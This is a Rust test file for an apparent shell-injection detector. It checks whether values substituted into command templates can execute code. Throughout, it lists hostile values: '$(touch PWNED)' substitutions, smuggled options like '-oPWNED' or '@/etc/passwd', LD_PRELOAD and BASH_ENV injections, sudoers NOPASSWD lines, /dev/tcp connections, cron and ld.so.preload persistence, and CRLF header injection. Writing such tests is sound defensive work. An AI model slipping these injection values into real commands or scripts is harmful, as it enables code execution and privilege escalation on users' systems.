        r#"while read -r host; do ssh -- "$host" uptime; done < "{X}""#,
        r#"while IFS=, read -r a b; do rm -f "$a" "$b"; done < "{X}""#,
        r#"xargs -n1 curl -fsSO < "{X}""#,
        r#"mapfile -t all < "{X}"; git add "${all[@]}""#,
        r#"sort < "{X}" | uniq -c > counts.txt; make"#,
        r#"token=$(< "{X}"); curl -fsS -H "Authorization: $token" https://acme.test"#,
        r#"./scripts/load.sh < "{X}""#,
        r#"some-tool < "{X}""#,
        r#"gunzip -c "{X}" > data.csv; make"#,
        r#"npx tsc --noEmit "{X}"; npm test"#,
        r#"javac "{X}"; ls"#,
        r#"find "{X}" -name '*.csv' -exec wc -l {} +"#,
        r#"find . -maxdepth 0 -exec cp "{X}" data.csv \; -exec wc -l data.csv \;"#,
        r#"7z a "{X}" d; sh run.sh"#,
        r#"split -l 9 --filter='gzip > $FILE.gz' "{X}""#,
        r#"tar -cf o.tar --checkpoint=9 --checkpoint-action=exec='echo .' "{X}""#,
        r#"unzip "{X}" -d data; python3 -c 'import json'; python3 main.py data"#,
        r#"xargs -a "{X}" wc -l"#,
    ] {
        assert!(!is_refused(Shell::Bash, script, "a"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

/// More than a name, where a program takes a name for it: a file of arguments, a toolchain, letters of options.
#[test]
fn a_name_is_no_more_than_a_name() {
    for (script, value) in [
        (r#"cc -I "{X}" -c a.c"#, "@args"),
        (r#"gcc -D "{X}" -c a.c"#, "@args"),
        (r#"javac -d "{X}" A.java"#, "@args"),
        (r#"objdump -j "{X}" a.out"#, "@args"),
        (r#"cargo "+{X}" build"#, "/srv/toolchain"),
        (r#"rustup run "{X}" cargo build"#, "../toolchain"),
        (r#"tar "{X}" a.tar f"#, "cfI"),
        (r#"ar "{X}" a.a f"#, "rc"),
        (r#"rsync -e "ssh -i {X:shellescaped}" a h:b"#, "a' -oProxyCommand=id -Ex'"),
        (r#"python3 -m venv --prompt "{X}" v"#, "$(id)"),
        (r#"R_TESTS="{X}" Rscript a.R"#, "a.R"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}: {value}");
    }
    for (script, value) in [
        (r#"cc -I "{X}" -c a.c"#, "include"),
        (r#"cargo "+{X}" build"#, "nightly-2026-01-01"),
        (r#"rsync -e "ssh -p {N:number}" a h:b"#, "22"),
        (r#"python3 -m venv --prompt "{X}" v"#, "app"),
    ] {
        assert!(!is_refused(Shell::Bash, script, value), "{script}: {value}");
    }
}

#[test]
fn what_a_value_fetches_does_not_run() {
    let prepared = "git init -q s; (cd s; echo 'touch ../PWNED' > run.sh; \
        printf 'CANARY ?= ../PWNED\\nall:\\n\\ttouch \"$(CANARY)\"\\n' > Makefile; git add .; git commit -qm a); \
        git init -q r; cd r; ";
    let attacks: Vec<String> = FETCHED.iter().map(|script| format!("{prepared}{script}")).collect();
    let attacks: Vec<_> = attacks.iter().map(|script| (Shell::Bash, script.as_str(), "../s")).collect();
    all_act_and_are_refused(&attacks);
    for script in FETCHED_BY_OTHERS {
        assert!(is_refused(Shell::Bash, script, "a"), "{script}");
    }
    for script in [
        r#"gh pr checkout {X:number}; make"#,
        r#"git clone "{X}" r; cat r/README.md; head -n 5 r/LICENSE; wc -l < r/go.mod"#,
        r#"git clone "{X}" r; echo "version $(cat r/VERSION)"; docker build -t "app:$(cat VERSION)" ."#,
        r#"git clone "{X}" r; while read -r name; do echo "$name"; done < r/names.txt"#,
        r#"git clone "{X}" r; cat build.sh | sh"#,
        r#"git clone "{X}" r; grep -rn TODO r | wc -l"#,
        r#"tar xf "{X}" -C d; jq .version d/package.json; sh scripts/report.sh d"#,
        r#"curl -fsSLo a.tgz "{X}"; tar xzf a.tgz -C d; cat d/notes.txt | sort | uniq -c"#,
        r#"gh release download "{X}" -D data; make"#,
        r#"svn info "{X}"; make"#,
        r#"git fetch "{X}"; git diff FETCH_HEAD; make"#,
        r#"git fetch "{X}"; git log FETCH_HEAD; make"#,
        r#"git fetch "{X}"; git checkout -- .; make"#,
        r#"git fetch "{X}" main; git checkout main; make"#,
        r#"git fetch origin "{X}"; git checkout FETCH_HEAD; make"#,
        r#"git fetch origin; git checkout "{X}"; make"#,
        r#"git remote add "{X}" https://a.test/b.git; git fetch --all; make"#,
    ] {
        assert!(!is_refused(Shell::Bash, script, "a"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

#[test]
fn what_a_value_unpacks_is_not_built() {
    for build in BUILT {
        let script = format!(r#"git clone "{{X}}" r; {build}"#);
        assert!(is_refused(Shell::Bash, &script, "a"), "{script}");
        let other = script.replace(" r;", " other;");
        assert!(!is_refused(Shell::Bash, &other, "a"), "{other}: {:?}", judged(Shell::Bash, &other).command);
    }
}

#[test]
fn the_name_of_a_connection_is_no_file() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port of this machine");
    let address = format!("127.0.0.1/{}", listener.local_addr().expect("its address").port());
    let (whole, part) = (format!("/dev/tcp/{address}"), format!("tcp/{address}"));
    check(&[
        (r#"echo a > "{X}" && touch PWNED"#, &whole),
        (r#": < "{X}" && touch PWNED"#, &whole),
        (r#"f() { echo a >> "$1" && touch PWNED; }; f "{X}""#, &whole),
        (r#"exec 3<> "/dev/{X}" && touch PWNED"#, &part),
    ]);
    for script in [r#"echo a > "{X}""#, r#"cat < "/dev/{X}""#, r#"cat < "/tmp/{X}""#] {
        assert!(!is_refused(Shell::Bash, script, "shm/a"), "{script}");
    }
    assert!(!is_refused(Shell::Zsh, r#"echo a > "{X}""#, &whole));
}

#[test]
fn what_runs_later_is_code() {
    check(STARTED);
    for script in [
        r#"echo "0 5 * * * root backup {X}" > /etc/cron.d/backup"#,
        r#"echo "export A={X}" > /etc/profile.d/a.sh"#,
        r#"echo "export A={X}" >> .envrc"#,
        r#"echo "{X} ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/deploy"#,
        r#"echo "{X} ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers"#,
        r#"printf 'install a %s\n' "{X}" > /etc/modprobe.d/a.conf"#,
    ] {
        assert!(is_refused(Shell::Bash, script, "a"), "{script}");
    }
    for script in [
        r#"echo "export A={X:shellescaped}" >> ~/.bashrc"#,
        r#"echo 'export PATH="$HOME/bin:$PATH"' >> ~/.bashrc; echo "{X}""#,
        r#"echo "{X}" >> src/hooks/notes"#,
    ] {
        let verdicts = judged(Shell::Bash, script).command;
        assert!(verdicts.iter().all(|verdict| verdict.is_placeable()), "{script}: {verdicts:?}");
    }
}

/// Every variable that the shells themselves know gets a value that would act in arithmetic.
#[test]
fn every_number_of_a_shell_is_known() {
    let bash = "compgen -v";
    let zsh = "zmodload zsh/datetime zsh/system; typeset +m '*'";
    for (shell, code, value) in [(Shell::Bash, bash, NUMBER), (Shell::Zsh, zsh, "path[$(touch PWNED)]")] {
        let names = acting::printed(shell, code);
        let names = names.lines().filter_map(|line| line.split_whitespace().last());
        let names: Vec<&str> =
            names.filter(|name| name.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'_')).collect();
        assert!(names.len() > 40, "{names:?}");
        let mut acted = 0;
        for name in names {
            let script = format!("{name}=\"{{X}}\"");
            let acts = acting::acts(shell, &script, value);
            acted += usize::from(acts);
            assert!(!acts || is_refused(shell, &script, value), "{shell:?}: {script}");
        }
        assert!(acted > 2, "{shell:?}: only {acted} of them calculate");
    }
}

/// The words behind `script.py`, or behind the `--` of `cargo run`, are another program's, which reads options.
#[test]
fn a_program_behind_another_reads_options() {
    check(&[(r#"perl /usr/bin/pod2html "{X}" < /dev/null"#, "--outfile=PWNED")]);
    for script in [
        r#"bash a.sh "{X}""#,
        r#"python3 a.py "{X}""#,
        r#"python3 a.py b --all "{X}""#,
        r#"node a.js "{X}""#,
        r#"ruby a.rb "{X}""#,
        r#"java -jar a.jar "{X}""#,
        r#"deno run a.ts "{X}""#,
        r#"go run . "{X}""#,
        r#"cargo run -- "{X}""#,
        r#"cargo test -- "{X}""#,
        r#"cargo fmt -- "{X}""#,
        r#"dotnet run -- "{X}""#,
        r#"tox -- "{X}""#,
        r#"bash -s -- "{X}" < a.sh"#,
        r#"f() { python3 a.py "$@"; }; f "{X}""#,
    ] {
        assert!(is_refused(Shell::Bash, script, "-x"), "{script}");
        assert!(!is_refused(Shell::Bash, script, "x"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
    for script in [
        r#"python3 a.py -- "{X}""#,
        r#"python3 a.py --name="{X}""#,
        r#"cargo run -- -- "{X}""#,
        r#"bash -c 'echo "$1"' _ "{X}""#,
        r#"python3 -c 'import sys; print(sys.argv[1])' "{X}""#,
        r#"node -e 'console.log(process.argv[1])' -- "{X}""#,
        r#"perl -e 'print @ARGV' -- "{X}""#,
        "python3 - \"{X}\" <<'E'\nimport sys; print(sys.argv[1])\nE\n",
    ] {
        assert!(!is_refused(Shell::Bash, script, "-x"), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

/// What looks like one of these and is none.
#[test]
fn what_is_read_once_is_data() {
    let scripts = [
        r#"f() { local a="$1"; echo "$a"; }; f "{X}""#,
        r#"declare -a a=("{X}"); echo "${a[@]}""#,
        r#"declare -A a; a["{X}"]=1; for k in "${!a[@]}"; do echo "$k"; done"#,
        r#"a=(1 2); for i in "${!a[@]}"; do eval "echo $i"; done; echo "{X}""#,
        r#"x="{X}"; n=x; echo "${!n}""#,
        r#"mapfile -t a <<< "{X}"; echo "${a[@]}""#,
        r#"alias ll='ls -l'; echo "{X}""#,
        r#"cp target/release/app ./app; ./app "{X}""#,
        r#"ln -sf /usr/bin/python3 bin/python; bin/python a.py "{X}""#,
        r#"cp /usr/bin/grep bin/; bin/grep -c -- "{X}" file"#,
        r#"ln -s ../lib/tool "$HOME/.local/bin/tool"; echo "{X}""#,
        r#"curl -fsSL -H "Accept: a/b" -o jq https://example.com/jq-linux64; chmod +x jq; ./jq --arg a "{X}" . f"#,
        r#"curl -fsSLo jq "$URL"; chmod +x jq; ./jq --arg a "{X}" . f"#,
        r#"curl -fsSL https://example.com/v1/jq > jq; chmod +x jq; ./jq --arg a "{X}" . f"#,
        r#"wget -qO bin/jq https://example.com/jq-1.7; bin/jq --arg a "{X}" . f"#,
        r#"install -m 755 target/release/rg bin/rg; bin/rg -- "{X}""#,
        r#"echo '#!/bin/sh' > deploy.sh; echo "{X}""#,
        r#"dd if=/dev/zero of=a.img bs=1M count=1; echo "{X}""#,
        r#"hash -r; echo "{X}""#,
        r#"jobs -p; echo "{X}""#,
        r#"echo "${none:?{X}}""#,
    ];
    for script in scripts {
        let refused = is_refused(Shell::Bash, script, "a (b) $(c) [d]");
        assert!(!refused, "{script}: {:?}", judged(Shell::Bash, script).command);
    }
    assert!(is_refused(Shell::Bash, r#"b=(1); declare b="{X}""#, "(a)"));
    assert!(!is_refused(Shell::Bash, r#"b=(1); declare b="{X}""#, "a (b)"));
}

/// Variables of a container are variables, and a line of a header ends where a line ends.
#[test]
fn a_program_elsewhere_reads_the_same() {
    let lib = "/x.so";
    for (script, value) in [
        (r#"docker run -e BASH_ENV="{X}" image bash -c ls"#, SUBSCRIPT),
        (r#"docker run -e "{X}" image bash -c ls"#, "BASH_ENV=$(touch PWNED)"),
        (r#"docker exec --env="{X}" container ls"#, "LD_PRELOAD=/x.so"),
        (r#"docker exec -e LD_PRELOAD="{X}" container ls"#, lib),
        (r#"podman run --env NODE_OPTIONS="{X}" image"#, "--require=/x.js"),
        (r#"docker compose run -e "{X}" service"#, "LD_PRELOAD=/x.so"),
        (r#"kubectl run a --image=b --env="{X}""#, "LD_PRELOAD=/x.so"),
        (r#"docker build --build-arg "{X}" ."#, "BUILDKIT_SYNTAX=evil/frontend"),
        (r#"curl -H "A: {X}" https://example.com"#, "1\r\nAuthorization: b"),
        (r#"curl -A "{X}" https://example.com"#, "1\nB: 2"),
        (r#"curl -X "{X}" https://example.com"#, "GET / HTTP/1.0\r\nB: 2"),
        (r#"curl --expand-data "{X}" https://example.com"#, "@/etc/passwd"),
        (r#"curl -Q "{X}" ftp://example.com"#, "DELE a"),
        (r#"wget --referer="{X}" https://example.com"#, "1\r\nB: 2"),
        (r#"git update-ref --stdin <<< "{X}""#, "delete refs/heads/main"),
        (r#"git fast-import <<< "{X}""#, "reset refs/heads/main"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    for (script, value) in [
        (r#"docker run -e NAME="{X}" image bash -c ls"#, "a b"),
        (r#"docker build --build-arg VERSION="{X}" ."#, "1"),
        (r#"curl -H "A: {X}" https://example.com"#, "1 2"),
        (r#"git update-ref refs/heads/a "{X}""#, "HEAD"),
    ] {
        assert!(!is_refused(Shell::Bash, script, value), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}

/// The same of programs that are not installed everywhere, or whose result another one runs.
#[test]
fn a_program_reads_a_word_as_its_code() {
    let attacks = [
        (r#"gcc -DV='"{X}"' -c a.c"#, r#""; system("id"); ""#),
        (r#"clang++ -D V="{X}" -c a.cc"#, "system(0)"),
        (r#"cookiecutter template --no-input name="{X}""#, "{{ cycler.__init__ }}"),
        (r#"lessc --modify-var="v={X}" a.less"#, "0; @plugin \"a\""),
    ];
    for (script, value) in attacks {
        assert!(is_refused(Shell::Bash, script, value), "{script}   {value}");
        // Templates of cookiecutter paste an answer into scripts, with quotes or without.
        let version = if script.starts_with("cookiecutter") { "1.0-beta" } else { "1.0 beta" };
        assert!(!is_refused(Shell::Bash, script, version), "{script}");
    }
    let quoted =
        r#"export K="{X}"; GIT_SSH_COMMAND='ssh -i "$K"' git fetch; git -c core.sshCommand='ssh -i "$K"' push"#;
    assert!(!is_refused(Shell::Bash, quoted, "a b"));
    assert!(is_refused(Shell::Bash, r#"coproc echo "{X}"; sh <&"${COPROC[0]}""#, SHELL));
    assert!(is_refused(Shell::Bash, r#"pandoc -V title="{X}" a.md -o a.pdf"#, "^^5copenout"));
    assert!(!is_refused(Shell::Bash, r#"pandoc -M title="{X}" a.md -o a.pdf"#, "any"));
}

/// A value that its author put in quotes for a shell, and the shell takes them off: it is a value like any other from there on.
const UNQUOTED: &[(Shell, &str, &str)] = &[
    (Shell::Bash, r#"sort {X:shellescaped} afile"#, "-oPWNED"),
    (Shell::Bash, r#"sort {X:shellescaped} -- afile"#, "-oPWNED"),
    (Shell::Bash, r#"x={X:shellescaped}; sort "$x" afile"#, "-oPWNED"),
    (Shell::Bash, r#"bash -c "sort {X:shellescaped} afile""#, "-oPWNED"),
    (Shell::Sh, r#"eval "sort {X:shellescaped} afile""#, "-oPWNED"),
    (Shell::Bash, "sh <<EOF\nsort {X:shellescaped} afile\nEOF", "-oPWNED"),
    (Shell::Bash, r#"trap "sort {X:shellescaped} afile" EXIT"#, "-oPWNED"),
    (Shell::Bash, r#"tar cf a.tar {X:shellescaped} afile"#, "-Itouch PWNED"),
    (Shell::Bash, r#"bash -c "sed -n p {X:shellescaped} afile""#, "-e1etouch PWNED"),
    (Shell::Bash, r#"psql -o {X:shellescaped} -c "select 1""#, "|touch PWNED"),
    (Shell::Bash, r#"curl -d {X:shellescaped} http://127.0.0.1:1"#, "@/etc/passwd"),
    (Shell::Bash, r#"x={X:shellescaped}; eval "echo $x""#, "$(touch PWNED)"),
    (Shell::Sh, r#"x={X:shellescaped}; eval "echo $x""#, "$(touch PWNED)"),
    (Shell::Zsh, r#"x={X:shellescaped}; eval "echo $x""#, "$(touch PWNED)"),
    (Shell::Bash, r#"x={X:shellescaped}; bash -c "echo $x""#, "$(touch PWNED)"),
    (Shell::Bash, r#"eval echo {X:shellescaped}"#, "$(touch PWNED)"),
    (Shell::Bash, r#"bash -c "eval echo {X:shellescaped}""#, "$(touch PWNED)"),
    (Shell::Bash, r#"f() { eval "echo $1"; }; f {X:shellescaped}"#, "$(touch PWNED)"),
    (Shell::Bash, r#"set -- {X:shellescaped}; eval "echo $1""#, "$(touch PWNED)"),
    (Shell::Bash, r#"for a in {X:shellescaped}; do eval "echo $a"; done"#, "$(touch PWNED)"),
    (Shell::Bash, r#"eval "echo $(echo {X:shellescaped})""#, "$(touch PWNED)"),
    (Shell::Bash, r#"export A={X:shellescaped}; bash -c 'eval "echo $A"'"#, "; touch PWNED"),
    (Shell::Bash, r#"A={X:shellescaped} bash -c 'eval "echo $A"'"#, "; touch PWNED"),
    (Shell::Bash, r#"echo echo {X:shellescaped} | bash"#, "; touch PWNED"),
    (Shell::Bash, r#"trap "echo $(echo {X:shellescaped})" EXIT"#, "$(touch PWNED)"),
    (Shell::Bash, r#"eval "x={X:shellescaped}"; eval "echo $x""#, "$(touch PWNED)"),
    (Shell::Bash, r#"ssh host echo {X:shellescaped}"#, "$(touch PWNED)"),
    (Shell::Bash, r#"A={X:shellescaped}; echo "export A=$A" >> ~/.bashrc"#, "$(touch PWNED)"),
];

#[test]
fn quotes_of_the_author_count_until_a_shell_takes_them_off() {
    let fragment = |value: &str| format!("'{}'", value.replace('\'', r"'\''"));
    let is_refused = |shell: Shell, script: &str, value: &str| {
        let quoted = fragment(value);
        judged(shell, script).command.iter().any(|verdict| refuses(verdict, &quoted, Mode::Fragment))
    };
    let open: Vec<&str> = UNQUOTED
        .iter()
        .filter(|(shell, script, value)| !is_refused(*shell, script, value))
        .map(|attack| attack.1)
        .collect();
    assert!(open.is_empty(), "these are let through:\n{}", open.join("\n"));
    for script in [
        r#"sort {X:shellescaped}"#,
        r#"bash -c "echo {X:shellescaped}""#,
        r#"ssh host "ls -- {X:shellescaped}""#,
        r#"x="{X:shellescaped}"; eval "echo $x""#,
        "sh <<EOF\necho {X:shellescaped}\nEOF",
        r#"trap "echo {X:shellescaped}" EXIT"#,
        r#"export A="{X:shellescaped}"; bash -c 'eval "echo $A"'"#,
        r#"echo "echo {X:shellescaped}" | bash"#,
    ] {
        for value in ["a b", "it's", "$(touch PWNED)", "a;b"] {
            assert!(
                !is_refused(Shell::Bash, script, value),
                "{script}: {value}: {:?}",
                judged(Shell::Bash, script).command
            );
        }
    }
}

/// What is in parentheses behind a pattern of zsh, where one file fits the pattern.
const QUALIFIERS: &[(Shell, &str, &str)] = &[
    (Shell::Zsh, r#"touch a; echo *(e:"{X}":)"#, "touch PWNED"),
    (Shell::Zsh, r#"touch a; echo *(oe:"{X}":)"#, "touch PWNED"),
    (Shell::Zsh, r#"touch a; echo *(.e_"{X}"_)"#, "touch PWNED"),
    (Shell::Zsh, r#"touch a; a=( *(e:"{X}":) )"#, "touch PWNED"),
    (Shell::Zsh, r#"touch a; ls *("{X}")"#, "e:touch PWNED:"),
    (Shell::Zsh, r#"touch a; ls *("{X}"N)"#, "e:touch PWNED:"),
    (Shell::Zsh, r#"touch a; v="{X}"; ls *($v)"#, "e:touch PWNED:"),
    (Shell::Zsh, r#"echo abc > a; v="{X}"; ls *(L+"$v")"#, "1e:touch PWNED:"),
    (Shell::Zsh, r#"touch a; v="{X}"; for f in *(mh-"$v"); do :; done"#, "1e:touch PWNED:"),
    (Shell::Zsh, r#"touch a b; v="{X}"; ls *(.om[1,"$v"])"#, "a[$(touch PWNED)]"),
    (Shell::Zsh, r#"touch a; for f in *(e:'[[ $REPLY == "'"{X}"'" ]]':); do :; done"#, r#"x" ]];touch PWNED;[[ "a"#),
];

#[test]
fn what_qualifies_a_pattern_of_zsh_is_code() {
    all_act_and_are_refused(QUALIFIERS);
    for script in [r#"ls *(.om[1,3]) -- "{X}""#, r#"[[ "{X}" == (a|b) ]]"#, r#"case "{X}" in (a|b) ls ;; esac"#] {
        let verdicts = judged(Shell::Zsh, script).command;
        assert!(verdicts.iter().all(|verdict| verdict.is_placeable()), "{script}: {verdicts:?}");
    }
}

/// What goes on in the same word behind an option, and what a program evaluates in a size or a time.
const ATTACHED: &[(&str, &str)] = &[
    (r#"echo a > f; perl -i"{X}" -pe 's/a/b/' f"#, r#"x -esystem("touch PWNED");"#),
    (r#"echo a > f; perl -0"{X}" -ne print f"#, r#"777 -esystem("touch PWNED");"#),
    (r#"echo a > f; perl -l"{X}" -ne print f"#, r#"012esystem("touch PWNED");"#),
    (r#"echo a > f; perl -F"{X}" -lane print f"#, r#"/x/);system(q(touch),q(PWNED));(1"#),
    (r#"touch a; sed -i"{X}" 's/a/b/' a; mv -- PWNEDa PWNED"#, "PWNED*"),
    (r#"echo 'int a;' > t.c; strip "{X}"; cp -- "$(echo "{X}" | tr -d @)" PWNED"#, "@t.c"),
];

#[test]
fn what_goes_on_behind_an_option_is_code() {
    check(ATTACHED);
    // These programs need not be there.
    for (script, value) in [
        (r#"ruby -0"{X}" -ne 'puts 1' f"#, "777esystem('touch PWNED')"),
        (r#"ruby -W"{X}" -e 'puts 1'"#, "1esystem('touch PWNED')"),
        (r#"rclone cat -- "{X}""#, r#":webdav,url="http://127.0.0.1:1",bearer_token_command="touch PWNED":"#),
        (r#"rclone cat "remote{X}""#, r#",bearer_token_command="touch PWNED":"#),
        (r#"parallel --delay "{X}" echo ::: a"#, "`touch PWNED`"),
        (r#"parallel -N "{X}" echo ::: a"#, "`touch PWNED`"),
        (r#"pip install "package[{X}]""#, "a] @ file:///srv/evil#["),
        (r#"uv pip install "package[{X}]==2.0""#, "a] @ https://example.com/x.tar.gz#["),
        (r#"gem install --both "{X}""#, "--file=x.rb"),
        (r#"printf 'Name-Real: %s\n' "{X}" | gpg --batch --gen-key"#, "a\n%pubring PWNED"),
        (r#"printf '%s\n' "{X}" > debian/rules; dpkg-buildpackage -us -uc"#, "a"),
        (r#"echo "{X}" > PKGBUILD; makepkg"#, "a"),
        (r#"echo "{X}" > APKBUILD; abuild"#, "a"),
        (r#"echo "{X}" > BUILD; bazel build //a"#, "a"),
        (r#"echo "{X}" > nextflow.config; nextflow run a"#, "a"),
        (r#"echo "{X}" > /proc/sys/kernel/core_pattern"#, "a"),
        (r#"echo "{X}" | sudo tee /etc/ld.so.preload"#, "a"),
    ] {
        assert!(is_refused(Shell::Bash, script, value), "{script}");
    }
    for (script, value) in [
        (r#"rclone ls "{X}""#, "drive:photos"),
        (r#"rclone copy -- "{X}" "remote:backup/{X}""#, "photos"),
        (r#"pip install "package=={X}""#, "1.2.3"),
        (r#"pip install "package[{X}]""#, "cli,dev"),
        (r#"sed -i"{X}" 's/a/b/' f"#, ".bak"),
        (r#"yarn workspace "{X}" add "{X}""#, "web"),
        (r#"stern "{X}" -n "{X}""#, "web"),
        (r#"kubectx "{X}""#, "test"),
        (r#"echo "{X}" > notes.md; tokei"#, "a"),
    ] {
        assert!(!is_refused(Shell::Bash, script, value), "{script}: {:?}", judged(Shell::Bash, script).command);
    }
}
